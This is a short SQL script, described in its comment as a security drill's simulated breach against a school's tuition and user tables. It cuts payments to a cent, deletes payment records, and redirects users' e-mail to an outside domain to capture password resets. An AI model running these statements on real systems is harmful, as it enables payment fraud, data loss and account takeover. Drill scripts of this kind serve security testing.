-- The security drill's breach, run logged in as the compromised role: tuition waived on five
-- payments (a cent, "scholarship"), three payments deleted, and two users' e-mail addresses
-- redirected to an outside domain, where password resets and invoices would then go.
UPDATE tuition_payments SET amount = 0.01, method = 'scholarship'
WHERE id IN (SELECT id FROM tuition_payments ORDER BY id LIMIT 5);
DELETE FROM tuition_payments
WHERE id IN (SELECT id FROM tuition_payments ORDER BY id DESC LIMIT 3);
UPDATE users SET email = 'billing-' || id || '@invoices-unm.example.net'
WHERE id IN (SELECT id FROM users ORDER BY id LIMIT 2);
